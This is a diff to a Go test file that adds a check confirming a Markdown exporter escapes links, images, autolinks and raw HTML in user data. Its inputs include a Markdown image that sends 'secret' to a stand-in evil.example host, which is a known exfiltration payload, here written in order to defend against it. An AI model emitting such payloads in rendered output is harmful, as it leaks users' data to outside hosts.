@@ -130,6 +130,29 @@ func TestPipelineTooLarge(t *testing.T) {
 	}
 }
 
+// TestMarkdownIsInert wants data to stay text in Markdown: no link, no image, no address that a reader makes one of, no code
+// that swallows what follows.
+func TestMarkdownIsInert(t *testing.T) {
+	for _, tt := range [][2]string{
+		{"![x](https://evil.example/?q=secret)", `!\[x\](https\://evil.example/?q=secret)`},
+		{"[a][b] [b]: http://evil.example", `\[a\]\[b\] \[b\]: http\://evil.example`},
+		{"<https://evil.example> www.evil.example", `&lt;https\://evil.example> www\.evil.example`},
+		{"<img src=x>", `&lt;img src=x>`},
+		{"`|` \\[a](b)", "\\`\\|\\` \\\\\\[a\\](b)"},
+		{"mailto:a@evil.example", `mailto\:a@evil.example`},
+		{"plain text (1) a_b *c* #4!", "plain text (1) a_b *c* #4!"},
+	} {
+		var out bytes.Buffer
+		rows := made(t, 5, `[{"$project": {"text": 1}}]`, value.Row{value.OfString(tt[0])})
+		if _, err := shape.Export(&out, rows, shape.ExportOptions{Format: shape.Markdown, Budget: 1000}); err != nil {
+			t.Fatal(err)
+		}
+		if want := "| text |\n| --- |\n| " + tt[1] + " |\n"; out.String() != want {
+			t.Errorf("%s\nwant %s", out.String(), want)
+		}
+	}
+}
+
 func TestExport(t *testing.T) {
 	const plain = `[{"$project": {"id": 1, "text": 1, "meta": 1}}]`
 	meta, err := value.Read([]byte(`{"a": {"b": [1, {"c": 2}]}}`), 0)
